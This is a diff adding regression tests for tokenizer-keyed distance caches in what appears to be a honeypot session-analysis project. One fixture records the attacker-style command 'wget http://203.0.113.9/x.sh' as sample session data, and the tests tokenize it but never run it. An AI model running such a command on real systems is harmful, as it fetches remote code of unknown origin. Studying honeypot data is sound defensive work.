@@ -45,6 +45,72 @@ class TestDistanceMatrix:
         assert matrix[0, 2] > 0
 
 
+class TestTokenizerCacheKeying:
+    """Regression: the distance-layer caches are per-tokenizer-config.
+
+    ``clear_distance_caches`` is not called between configs, so before
+    the fingerprint keying a cache warmed by one tokenizer config could
+    serve another (the normalization ablation runs both over the same
+    sessions in one process)."""
+
+    @staticmethod
+    def _session_with_ip():
+        from repro.honeypot.session import CommandRecord
+        from tests.conftest import make_record
+
+        session = make_record(0.0, session_id="cache-key-test")
+        session.commands.append(
+            CommandRecord(raw="wget http://203.0.113.9/x.sh", known=True)
+        )
+        return session
+
+    def test_two_configs_get_independent_token_caches(self):
+        from repro.analysis.distance import clear_distance_caches, session_tokens
+        from repro.analysis.tokenizer import DEFAULT_TOKENIZER, RAW_TOKENIZER
+
+        clear_distance_caches()
+        session = self._session_with_ip()
+        # warm the cache under the normalizing config first — before the
+        # fingerprint keying, the raw call below got these tokens back
+        normalized = session_tokens([session], tokenizer=DEFAULT_TOKENIZER)[0]
+        raw = session_tokens([session], tokenizer=RAW_TOKENIZER)[0]
+        assert "<url>" in normalized
+        assert "<url>" not in raw
+        assert normalized != raw
+        # and the warm entries survive, independently, for both configs
+        assert session_tokens([session], tokenizer=DEFAULT_TOKENIZER)[0] == (
+            normalized
+        )
+        assert session_tokens([session], tokenizer=RAW_TOKENIZER)[0] == raw
+
+    def test_pair_cache_entries_are_per_fingerprint(self):
+        from repro.analysis.distance import (
+            _cached_pair_distance,
+            clear_distance_caches,
+            pair_distance,
+        )
+        from repro.analysis.tokenizer import DEFAULT_TOKENIZER, RAW_TOKENIZER
+
+        clear_distance_caches()
+        a, b = ("wget", "<url>"), ("wget", "203.0.113.9")
+        pair_distance(a, b, DEFAULT_TOKENIZER.fingerprint)
+        warm = _cached_pair_distance.cache_info()
+        pair_distance(a, b, DEFAULT_TOKENIZER.fingerprint)
+        hit = _cached_pair_distance.cache_info()
+        assert hit.hits == warm.hits + 1
+        pair_distance(a, b, RAW_TOKENIZER.fingerprint)
+        other = _cached_pair_distance.cache_info()
+        assert other.misses == hit.misses + 1  # distinct entry, no hit
+
+    def test_fingerprint_covers_the_knobs(self):
+        from repro.analysis.tokenizer import DEFAULT_TOKENIZER, RAW_TOKENIZER, TokenizerConfig
+
+        assert DEFAULT_TOKENIZER.fingerprint != RAW_TOKENIZER.fingerprint
+        assert TokenizerConfig(normalize=True).fingerprint == (
+            DEFAULT_TOKENIZER.fingerprint
+        )
+
+
 class TestKMedoids:
     def test_separates_two_groups(self):
         matrix = two_group_matrix()
